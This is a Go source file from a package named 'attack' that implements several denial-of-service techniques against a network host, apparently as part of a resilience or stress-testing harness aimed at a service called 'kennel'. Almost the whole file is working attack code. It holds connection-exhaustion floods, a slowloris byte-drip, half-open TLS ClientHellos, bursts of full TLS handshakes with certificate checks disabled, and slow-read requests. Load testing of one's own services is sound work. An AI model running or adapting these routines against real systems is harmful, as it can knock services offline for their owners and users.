package attack

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// opened is a set of connections that are held open together.
type opened struct {
	*run
	mu    sync.Mutex // covers conns
	conns []net.Conn
}

// open connects again and again, and hands each connection to use. It holds them
// all until the attack ends. A host that refuses some is what is hoped for.
func (r *run) open(use func(i int, c net.Conn)) {
	all := opened{run: r}
	defer all.close()
	for i := 0; r.pace(i); i++ {
		c, err := r.dial(i, r.Port)
		if err != nil {
			continue
		}
		all.mu.Lock()
		all.conns = append(all.conns, c)
		all.mu.Unlock()
		use(i, c)
	}
	r.hold()
}

func (o *opened) close() {
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, c := range o.conns {
		// A reset leaves no thousands of ports in TIME_WAIT.
		if tcp, ok := c.(*net.TCPConn); ok {
			_ = tcp.SetLinger(0)
		}
		_ = c.Close()
	}
}

// idle opens connections and says nothing.
func (r *run) idle() error {
	r.open(func(int, net.Conn) {})
	return nil
}

// dripInterval is how often a slow request goes on by a byte.
const dripInterval = 200 * time.Millisecond

// drip begins requests and never ends them: a byte at a time to each connection
// (slowloris).
func (r *run) drip() error {
	var mu sync.Mutex // covers conns
	var conns []net.Conn
	var dripping sync.WaitGroup
	dripping.Go(func() {
		tick := time.NewTicker(dripInterval)
		defer tick.Stop()
		text := "GET /serverinfo?uniqueid=0123456789ABCDEF HTTP/1.1\r\nHost: kennel\r\nX: "
		for i := 0; ; i++ {
			letter := []byte{'a'}
			if i < len(text) {
				letter[0] = text[i]
			}
			mu.Lock()
			for _, c := range conns {
				_ = c.SetWriteDeadline(time.Now().Add(time.Millisecond))
				_, _ = c.Write(letter)
			}
			mu.Unlock()
			select {
			case <-tick.C:
			case <-r.Done():
				return
			}
		}
	})
	r.open(func(_ int, c net.Conn) {
		mu.Lock()
		defer mu.Unlock()
		conns = append(conns, c)
	})
	dripping.Wait()
	return nil
}

// clientHello is the beginning of a TLS handshake: a record that says that it
// has 512 bytes, of which these are the first.
var clientHello = []byte{0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3}

// halfTLS begins handshakes and never ends them.
func (r *run) halfTLS() error {
	r.open(func(_ int, c net.Conn) { _, _ = c.Write(clientHello) })
	return nil
}

// handshakes bounds the TLS handshakes at one time.
const handshakes = 8

// handshake completes TLS handshakes, each of which costs the host a signature.
func (r *run) handshake() error {
	var running sync.WaitGroup
	places := make(chan struct{}, handshakes)
	for i := 0; r.pace(i); i++ {
		places <- struct{}{}
		running.Go(func() {
			defer func() { <-places }()
			c, err := r.dial(i, r.Ports.HTTPS)
			if err != nil {
				return
			}
			_ = c.SetDeadline(time.Now().Add(2 * time.Second))
			// The host's certificate is its own. Nobody is to be trusted here.
			t := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
			_ = t.HandshakeContext(r)
			_ = c.Close()
		})
	}
	running.Wait()
	return nil
}

// slowRead asks for answers and does not read them.
func (r *run) slowRead() error {
	ask := bytes.Repeat([]byte("GET /serverinfo HTTP/1.1\r\nHost: kennel\r\n\r\n"), 64)
	r.open(func(_ int, c net.Conn) {
		if tcp, ok := c.(*net.TCPConn); ok {
			_ = tcp.SetReadBuffer(1024)
		}
		_ = c.SetWriteDeadline(time.Now().Add(10 * time.Millisecond))
		_, _ = c.Write(ask)
	})
	return nil
}

// ask sends one message over a connection of its own and reads the answer.
func (r *run) ask(i, port int, message []byte) []byte {
	c, err := r.dial(i, port)
	if err != nil {
		return nil
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := c.Write(message); err != nil {
		return nil
	}
	answer, _ := io.ReadAll(io.LimitReader(c, 64<<10)) // what came is what counts
	if len(answer) > 0 {
		r.heard(answer)
	}
	return answer
}

// get sends one HTTP request.
func (r *run) get(i int, path string) []byte {
	return r.ask(i, r.Ports.HTTP, fmt.Appendf(nil, "GET %s HTTP/1.1\r\nHost: kennel\r\nConnection: close\r\n\r\n", path))
}
